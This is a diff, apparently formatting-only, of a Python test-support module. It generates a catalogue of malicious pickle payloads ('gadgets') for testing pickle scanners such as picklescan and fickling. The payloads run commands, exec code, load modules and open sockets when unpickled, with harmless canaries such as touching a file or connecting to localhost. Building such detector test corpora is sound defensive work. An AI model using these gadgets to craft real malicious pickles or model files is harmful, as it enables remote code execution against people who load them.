@@ -1,7 +1,8 @@
 """Pickles that do something when Python reads them, made on the spot: a hundred kinds, in every way to call.
 
-Each touches something that can be seen from outside, its canary: a file in a folder, an environment variable,
-a connection to a socket. The kinds are the families on the test lists of picklescan and fickling, and more.
+Each touches something that can be seen from outside, its canary: a file in a folder, an
+environment variable, a connection to a socket. The kinds are the families on the test lists of
+picklescan and fickling, and more.
 """
 
 import marshal
@@ -37,7 +38,9 @@ class Call:
 
 def at(full_name: str) -> Name:
     """`"os:environ.update"`, or `"os.system"` where the last dot divides."""
-    module, _, name = full_name.partition(":") if ":" in full_name else full_name.rpartition(".")
+    module, _, name = (
+        full_name.partition(":") if ":" in full_name else full_name.rpartition(".")
+    )
     return Name(module, name)
 
 
@@ -149,7 +152,12 @@ def raw_bytes(value: bytes) -> bytes:
 
 def whole(body: bytes, style: str = "reduce2") -> bytes:
     """A pickle of one value: header, body, STOP."""
-    header = {"reduce4": b"\x80\x04", "newobj": b"\x80\x02", "reduce2": b"\x80\x02", "newobj_ex": b"\x80\x04"}
+    header = {
+        "reduce4": b"\x80\x04",
+        "newobj": b"\x80\x02",
+        "reduce2": b"\x80\x02",
+        "newobj_ex": b"\x80\x04",
+    }
     return header.get(style, b"") + body + b"."
 
 
@@ -215,7 +223,11 @@ def _modules_override(c: Canary) -> bytes:
 def _set_state(c: Canary) -> bytes:
     """Give a harmless object a `__setstate__` that is none, then its state."""
     return (
-        b"cargparse\nNamespace\n)\x81}" + _text("__setstate__") + b"cos\nsystem\nsb" + _text(c.command) + b"b"
+        b"cargparse\nNamespace\n)\x81}"
+        + _text("__setstate__")
+        + b"cos\nsystem\nsb"
+        + _text(c.command)
+        + b"b"
     )
 
 
@@ -232,8 +244,16 @@ def _extension(opcode: bytes) -> Callable[[Canary], bytes]:
 
 def _array(c: Canary) -> bytes:
     """An array of objects, one of which is a call."""
-    array = call("numpy.core.multiarray._reconstruct", at("numpy.ndarray"), (0,), raw_bytes(b"b"))
-    state = (1, (1,), call("numpy.dtype", "O8", False, True), False, [call("os.system", c.command)])
+    array = call(
+        "numpy.core.multiarray._reconstruct", at("numpy.ndarray"), (0,), raw_bytes(b"b")
+    )
+    state = (
+        1,
+        (1,),
+        call("numpy.dtype", "O8", False, True),
+        False,
+        [call("os.system", c.command)],
+    )
     return assemble(array) + assemble(state) + b"b"
 
 
@@ -250,10 +270,14 @@ GADGETS = (
     Gadget("os.popen", lambda c: call("os.popen", c.command)),
     Gadget("os.execlp", lambda c: call("os.execlp", "touch", "touch", c.file)),
     Gadget("os.spawnlp", lambda c: call("os.spawnlp", 0, "touch", "touch", c.file)),
-    Gadget("os.posix_spawnp", lambda c: call("os.posix_spawnp", "touch", ["touch", c.file], {})),
+    Gadget(
+        "os.posix_spawnp", lambda c: call("os.posix_spawnp", "touch", ["touch", c.file], {})
+    ),
     Gadget("subprocess.Popen", lambda c: call("subprocess.Popen", ["touch", c.file])),
     Gadget("subprocess.run", lambda c: call("subprocess.run", ["touch", c.file])),
-    Gadget("subprocess.check_output", lambda c: call("subprocess.check_output", ["touch", c.file])),
+    Gadget(
+        "subprocess.check_output", lambda c: call("subprocess.check_output", ["touch", c.file])
+    ),
     Gadget("subprocess.getoutput", lambda c: call("subprocess.getoutput", c.command)),
     Gadget("commands.getoutput", lambda c: call("commands.getoutput", c.command), fires=False),
     Gadget("pty.spawn", lambda c: call("pty.spawn", ["touch", c.file])),
@@ -264,21 +288,35 @@ GADGETS = (
     Gadget(
         "asyncio transport",
         lambda c: call(
-            "asyncio.unix_events:_UnixSubprocessTransport._start", {}, c.command, True, None, None, None, 0
+            "asyncio.unix_events:_UnixSubprocessTransport._start",
+            {},
+            c.command,
+            True,
+            None,
+            None,
+            None,
+            0,
         ),
         fires=False,
     ),
     Gadget(
         "multiprocessing.util",
         lambda c: call(
-            "multiprocessing.util.spawnv_passfds", raw_bytes(b"/usr/bin/touch"), ["touch", c.file], ()
+            "multiprocessing.util.spawnv_passfds",
+            raw_bytes(b"/usr/bin/touch"),
+            ["touch", c.file],
+            (),
         ),
     ),
     Gadget("imaplib.IMAP4_stream", lambda c: call("imaplib.IMAP4_stream", c.command)),
     Gadget("uuid", lambda c: call("uuid._get_command_stdout", "touch", c.file)),
     Gadget("_osx_support", lambda c: call("_osx_support._read_output", c.command)),
-    Gadget("_aix_support", lambda c: call("_aix_support._read_cmd_output", c.command), fires=False),
-    Gadget("_pyrepl.pager", lambda c: call("_pyrepl.pager.pipe_pager", "", c.command), fires=False),
+    Gadget(
+        "_aix_support", lambda c: call("_aix_support._read_cmd_output", c.command), fires=False
+    ),
+    Gadget(
+        "_pyrepl.pager", lambda c: call("_pyrepl.pager.pipe_pager", "", c.command), fires=False
+    ),
     Gadget("pydoc.pipepager", lambda c: call("pydoc.pipepager", "", c.command)),
     Gadget("webbrowser.open", lambda c: call("webbrowser.open", c.file)),
     Gadget("import that opens a browser", lambda c: at("antigravity.geohash")),
@@ -290,7 +328,8 @@ GADGETS = (
     Gadget(
         "ctypes.CDLL",
         lambda c: call(
-            call("operator.methodcaller", "system", raw_bytes(c.command.encode())), call("ctypes.CDLL", None)
+            call("operator.methodcaller", "system", raw_bytes(c.command.encode())),
+            call("ctypes.CDLL", None),
         ),
     ),
     # builtins
@@ -299,31 +338,49 @@ GADGETS = (
     Gadget("compile", lambda c: call("builtins.exec", c.code)),
     Gadget("Python 2's eval", lambda c: call("__builtin__.eval", c.source)),
     Gadget(
-        "Python 2's apply", lambda c: call("__builtin__.apply", at("os.system"), (c.command,)), fires=False
+        "Python 2's apply",
+        lambda c: call("__builtin__.apply", at("os.system"), (c.command,)),
+        fires=False,
     ),
     Gadget("open", lambda c: call("builtins.open", c.file, "w")),
     Gadget(
         "__import__, getattr",
-        lambda c: call(call("builtins.getattr", call("builtins.__import__", "os"), "system"), c.command),
+        lambda c: call(
+            call("builtins.getattr", call("builtins.__import__", "os"), "system"), c.command
+        ),
     ),
-    Gadget("map", lambda c: call("builtins.list", call("builtins.map", at("os.system"), [c.command]))),
-    Gadget("filter", lambda c: call("builtins.list", call("builtins.filter", at("os.system"), [c.command]))),
+    Gadget(
+        "map",
+        lambda c: call("builtins.list", call("builtins.map", at("os.system"), [c.command])),
+    ),
+    Gadget(
+        "filter",
+        lambda c: call("builtins.list", call("builtins.filter", at("os.system"), [c.command])),
+    ),
     Gadget("globals", lambda c: call("builtins.globals"), fires=False),
     Gadget("breakpoint", lambda c: call("builtins.breakpoint"), fires=False),
     Gadget("type", lambda c: call("builtins.type", "X", (), {}), fires=False),
     # ways to call and to reach
-    Gadget("functools.partial", lambda c: call(call("functools.partial", at("os.system"), c.command))),
-    Gadget("functools.reduce", lambda c: call("functools.reduce", at("builtins.open"), [c.file, "w"])),
+    Gadget(
+        "functools.partial",
+        lambda c: call(call("functools.partial", at("os.system"), c.command)),
+    ),
+    Gadget(
+        "functools.reduce",
+        lambda c: call("functools.reduce", at("builtins.open"), [c.file, "w"]),
+    ),
     Gadget(
         "operator.methodcaller",
         lambda c: call(
-            call("operator.methodcaller", "system", c.command), call("importlib.import_module", "os")
+            call("operator.methodcaller", "system", c.command),
+            call("importlib.import_module", "os"),
         ),
     ),
     Gadget(
         "_operator.attrgetter",
         lambda c: call(
-            call(call("_operator.attrgetter", "system"), call("importlib.import_module", "os")), c.command
+            call(call("_operator.attrgetter", "system"), call("importlib.import_module", "os")),
+            c.command,
         ),
     ),
     Gadget(
@@ -335,37 +392,57 @@ GADGETS = (
     ),
     Gadget(
         "itertools.starmap",
-        lambda c: call("builtins.list", call("itertools.starmap", at("os.system"), [(c.command,)])),
+        lambda c: call(
+            "builtins.list", call("itertools.starmap", at("os.system"), [(c.command,)])
+        ),
     ),
     Gadget(
         "types.FunctionType",
         lambda c: call(
-            call("types.FunctionType", c.code, {"__builtins__": call("importlib.import_module", "builtins")})
+            call(
+                "types.FunctionType",
+                c.code,
+                {"__builtins__": call("importlib.import_module", "builtins")},
+            )
         ),
     ),
     Gadget("types.CodeType", lambda c: call("types.CodeType", 0, 0, 0, 0, 0, 0), fires=False),
-    Gadget("marshal.loads", lambda c: call("builtins.exec", call("marshal.loads", _code_of(c)))),
-    Gadget("pkgutil.resolve_name", lambda c: call(call("pkgutil.resolve_name", "os:system"), c.command)),
+    Gadget(
+        "marshal.loads", lambda c: call("builtins.exec", call("marshal.loads", _code_of(c)))
+    ),
+    Gadget(
+        "pkgutil.resolve_name",
+        lambda c: call(call("pkgutil.resolve_name", "os:system"), c.command),
+    ),
     Gadget("pydoc.locate", lambda c: call(call("pydoc.locate", "os.system"), c.command)),
     Gadget(
         "weakref.finalize",
-        lambda c: call("weakref.finalize", at("argparse.Namespace"), at("os.system"), c.command),
+        lambda c: call(
+            "weakref.finalize", at("argparse.Namespace"), at("os.system"), c.command
+        ),
     ),
     Gadget("atexit.register", lambda c: call("atexit.register", at("os.system"), c.command)),
     Gadget(
         "threading.Timer",
-        lambda c: call("threading:Thread.start", call("threading.Timer", 0, at("os.system"), [c.command])),
+        lambda c: call(
+            "threading:Thread.start", call("threading.Timer", 0, at("os.system"), [c.command])
+        ),
     ),
     Gadget(
         "contextlib",
         lambda c: call(
-            "contextlib:ExitStack.callback", call("contextlib.ExitStack"), at("os.system"), c.command
+            "contextlib:ExitStack.callback",
+            call("contextlib.ExitStack"),
+            at("os.system"),
+            c.command,
         ),
         fires=False,
     ),
     Gadget(
         "copyreg._reconstructor",
-        lambda c: call("copyreg._reconstructor", at("subprocess.Popen"), at("builtins.object"), None),
+        lambda c: call(
+            "copyreg._reconstructor", at("subprocess.Popen"), at("builtins.object"), None
+        ),
         fires=False,
     ),
     Gadget("another module as sys", _modules_override),
@@ -374,9 +451,18 @@ GADGETS = (
     Gadget("EXT2", _extension(b"\x83\xc8\x00")),
     Gadget("EXT4", _extension(b"\x84\xc8\x00\x00\x00")),
     Gadget("PERSID", lambda c: b"Ptouch\n", fires=False),
-    Gadget("BINPERSID of a call", lambda c: assemble(call("os.system", c.command)) + b"Q", fires=False),
-    Gadget("call whose result is dropped", lambda c: assemble(call("os.system", c.command)) + b"0N"),
-    Gadget("name reached through a harmless module", lambda c: call("argparse:_os.system", c.command)),
+    Gadget(
+        "BINPERSID of a call",
+        lambda c: assemble(call("os.system", c.command)) + b"Q",
+        fires=False,
+    ),
+    Gadget(
+        "call whose result is dropped", lambda c: assemble(call("os.system", c.command)) + b"0N"
+    ),
+    Gadget(
+        "name reached through a harmless module",
+        lambda c: call("argparse:_os.system", c.command),
+    ),
     Gadget(
         "function of a harmless module",
         lambda c: call("typing._eval_type", call("typing.ForwardRef", c.source), {}, {}),
@@ -395,47 +481,73 @@ GADGETS = (
     Gadget("runpy._run_code", lambda c: call("runpy._run_code", c.code, {})),
     Gadget(
         "code",
-        lambda c: call("code:InteractiveInterpreter.runcode", call("code.InteractiveInterpreter"), c.code),
+        lambda c: call(
+            "code:InteractiveInterpreter.runcode", call("code.InteractiveInterpreter"), c.code
+        ),
     ),
     Gadget("codeop", lambda c: call("builtins.exec", call("codeop.compile_command", c.source))),
-    Gadget("timeit.timeit", lambda c: call("timeit.timeit", c.source, "pass", at("time.perf_counter"), 1)),
+    Gadget(
+        "timeit.timeit",
+        lambda c: call("timeit.timeit", c.source, "pass", at("time.perf_counter"), 1),
+    ),
     Gadget("cProfile.run", lambda c: call("cProfile.run", c.source)),
     Gadget("profile.run", lambda c: call("profile.run", c.source)),
     Gadget("trace.Trace", lambda c: call("trace:Trace.run", call("trace.Trace"), c.source)),
     Gadget("bdb.Bdb", lambda c: call("bdb:Bdb.run", call("bdb.Bdb"), c.source)),
     Gadget("pdb.run", lambda c: call("pdb.run", c.source), fires=False),
-    Gadget("doctest.debug_script", lambda c: call("doctest.debug_script", c.source, True), fires=False),
+    Gadget(
+        "doctest.debug_script",
+        lambda c: call("doctest.debug_script", c.source, True),
+        fires=False,
+    ),
     Gadget(
         "importlib loader",
         lambda c: call(
             "importlib.machinery:SourceFileLoader.load_module",
-            call("importlib.machinery.SourceFileLoader", "canary_module", c.helper("module.py")),
+            call(
+                "importlib.machinery.SourceFileLoader", "canary_module", c.helper("module.py")
+            ),
         ),
     ),
-    Gadget("imp.load_source", lambda c: call("imp.load_source", "canary_imp", c.helper("module.py"))),
+    Gadget(
+        "imp.load_source",
+        lambda c: call("imp.load_source", "canary_imp", c.helper("module.py")),
+    ),
     Gadget(
         "zipimport",
         lambda c: call(
-            "zipimport:zipimporter.load_module", call("zipimport.zipimporter", c.helper("code.zip")), "inside"
+            "zipimport:zipimporter.load_module",
+            call("zipimport.zipimporter", c.helper("code.zip")),
+            "inside",
         ),
     ),
     Gadget("idlelib.calltip", lambda c: call("idlelib.calltip.get_entity", c.source)),
-    Gadget("idlelib.run", lambda c: call("idlelib.run:Executive.runcode", {}, c.code), fires=False),
+    Gadget(
+        "idlelib.run", lambda c: call("idlelib.run:Executive.runcode", {}, c.code), fires=False
+    ),
     Gadget(
         "lib2to3 grammar",
         lambda c: call(
-            "lib2to3.pgen2.grammar:Grammar.loads", call("lib2to3.pgen2.grammar.Grammar"), raw_bytes(c.pickled)
+            "lib2to3.pgen2.grammar:Grammar.loads",
+            call("lib2to3.pgen2.grammar.Grammar"),
+            raw_bytes(c.pickled),
         ),
     ),
     Gadget("pip.main", lambda c: call("pip.main", ["--log", c.file, "--version"]), fires=False),
     Gadget("ensurepip", lambda c: call("ensurepip._run_pip", ["--version"]), fires=False),
     Gadget("venv.create", lambda c: call("venv.create", c.file)),
-    Gadget("logging.config, settings", lambda c: call("logging.config.fileConfig", c.helper("logging.ini"))),
+    Gadget(
+        "logging.config, settings",
+        lambda c: call("logging.config.fileConfig", c.helper("logging.ini")),
+    ),
     Gadget(
         "logging.config, dictionary",
         lambda c: call(
             "logging.config.dictConfig",
-            {"version": 1, "handlers": {"h": {"class": "logging.FileHandler", "filename": c.file}}},
+            {
+                "version": 1,
+                "handlers": {"h": {"class": "logging.FileHandler", "filename": c.file}},
+            },
         ),
     ),
     # pickles in pickles
@@ -447,8 +559,14 @@ GADGETS = (
         lambda c: call("torch.storage._load_from_bytes", raw_bytes(torch_stream(c.pickled))),
     ),
     Gadget("numpy.load", lambda c: call("numpy.load", c.helper("nested.npy"), None, True)),
-    Gadget("joblib.load", lambda c: call("joblib.load", c.helper("nested.joblib")), fires=False),
-    Gadget("pandas.read_pickle", lambda c: call("pandas.read_pickle", c.helper("nested.pkl")), fires=False),
+    Gadget(
+        "joblib.load", lambda c: call("joblib.load", c.helper("nested.joblib")), fires=False
+    ),
+    Gadget(
+        "pandas.read_pickle",
+        lambda c: call("pandas.read_pickle", c.helper("nested.pkl")),
+        fires=False,
+    ),
     Gadget("dill", lambda c: call("dill._dill.loads", raw_bytes(c.pickled)), fires=False),
     Gadget(
         "cloudpickle",
@@ -456,35 +574,61 @@ GADGETS = (
         fires=False,
     ),
     Gadget("shelve", lambda c: call("shelve.open", c.file)),
-    Gadget("yaml", lambda c: call("yaml.unsafe_load", f"!!python/object/apply:os.system [{c.command!r}]")),
+    Gadget(
+        "yaml",
+        lambda c: call("yaml.unsafe_load", f"!!python/object/apply:os.system [{c.command!r}]"),
+    ),
     # torch and numpy
     Gadget(
         "torch.hub",
-        lambda c: call("torch.hub._load_local", str(Path(c.helper("hubconf.py")).parent), "entry"),
+        lambda c: call(
+            "torch.hub._load_local", str(Path(c.helper("hubconf.py")).parent), "entry"
+        ),
     ),
     Gadget("torch.utils.collect_env", lambda c: call("torch.utils.collect_env.run", c.command)),
     Gadget(
-        "torch execWrapper", lambda c: call("torch.jit.unsupported_tensor_ops.execWrapper", c.source, {}, {})
+        "torch execWrapper",
+        lambda c: call("torch.jit.unsupported_tensor_ops.execWrapper", c.source, {}, {}),
     ),
     Gadget(
         "torch bottleneck",
         lambda c: call("torch.utils.bottleneck.__main__.run_cprofile", c.code, {}),
         fires=False,
     ),
-    Gadget("torch storage from a file", lambda c: call("torch:UntypedStorage.from_file", c.file, True, 16)),
     Gadget(
-        "torch _dynamo", lambda c: call("torch._dynamo.guards:GuardBuilder.get", {}, c.source), fires=False
+        "torch storage from a file",
+        lambda c: call("torch:UntypedStorage.from_file", c.file, True, 16),
+    ),
+    Gadget(
+        "torch _dynamo",
+        lambda c: call("torch._dynamo.guards:GuardBuilder.get", {}, c.source),
+        fires=False,
     ),
     Gadget(
         "torch _inductor",
         lambda c: call("torch._inductor.codecache.compile_file", "", "", ["touch", c.file]),
         fires=False,
     ),
-    Gadget("torch.fx", lambda c: call("torch.fx.graph_module.reduce_graph_module", {}, ""), fires=False),
-    Gadget("torch TCPStore", lambda c: call("torch.distributed.TCPStore", *c.host), fires=False),
-    Gadget("torch.ops", lambda c: call("torch.ops.load_library", c.helper("lib.so")), fires=False),
-    Gadget("numpy runstring", lambda c: call("numpy.testing._private.utils.runstring", c.source, {})),
-    Gadget("numpy f2py", lambda c: call("numpy.f2py.crackfortran.getlincoef", c.source, {}), fires=False),
+    Gadget(
+        "torch.fx",
+        lambda c: call("torch.fx.graph_module.reduce_graph_module", {}, ""),
+        fires=False,
+    ),
+    Gadget(
+        "torch TCPStore", lambda c: call("torch.distributed.TCPStore", *c.host), fires=False
+    ),
+    Gadget(
+        "torch.ops", lambda c: call("torch.ops.load_library", c.helper("lib.so")), fires=False
+    ),
+    Gadget(
+        "numpy runstring",
+        lambda c: call("numpy.testing._private.utils.runstring", c.source, {}),
+    ),
+    Gadget(
+        "numpy f2py",
+        lambda c: call("numpy.f2py.crackfortran.getlincoef", c.source, {}),
+        fires=False,
+    ),
     Gadget("numpy.memmap", lambda c: call("numpy.memmap", c.file, "uint8", "w+", 0, (4,))),
     Gadget("numpy.savetxt", lambda c: call("numpy.savetxt", c.file, [1.0])),
     # files
@@ -509,15 +653,24 @@ GADGETS = (
     Gadget("socket", lambda c: call("socket.create_connection", c.host)),
     Gadget(
         "http.client",
-        lambda c: call("http.client:HTTPConnection.connect", call("http.client.HTTPConnection", *c.host)),
+        lambda c: call(
+            "http.client:HTTPConnection.connect", call("http.client.HTTPConnection", *c.host)
+        ),
     ),
-    Gadget("urllib.request", lambda c: call("urllib.request.urlopen", f"http://127.0.0.1:{c.port}/")),
+    Gadget(
+        "urllib.request",
+        lambda c: call("urllib.request.urlopen", f"http://127.0.0.1:{c.port}/"),
+    ),
     Gadget("ftplib", lambda c: call("ftplib:FTP.connect", call("ftplib.FTP"), *c.host)),
     Gadget("smtplib", lambda c: call("smtplib.SMTP", *c.host)),
     Gadget("poplib", lambda c: call("poplib.POP3", *c.host)),
     Gadget("ssl", lambda c: call("ssl.get_server_certificate", c.host)),
     Gadget("telnetlib", lambda c: call("telnetlib.Telnet", *c.host)),
-    Gadget("requests", lambda c: call("requests.api.get", f"http://127.0.0.1:{c.port}/"), fires=False),
+    Gadget(
+        "requests",
+        lambda c: call("requests.api.get", f"http://127.0.0.1:{c.port}/"),
+        fires=False,
+    ),
     Gadget("aiohttp", lambda c: call("aiohttp.client.ClientSession"), fires=False),
     Gadget("os._exit", lambda c: call("os._exit", 0), fires=False),
     Gadget("sys.exit", lambda c: call("sys.exit", 0), fires=False),
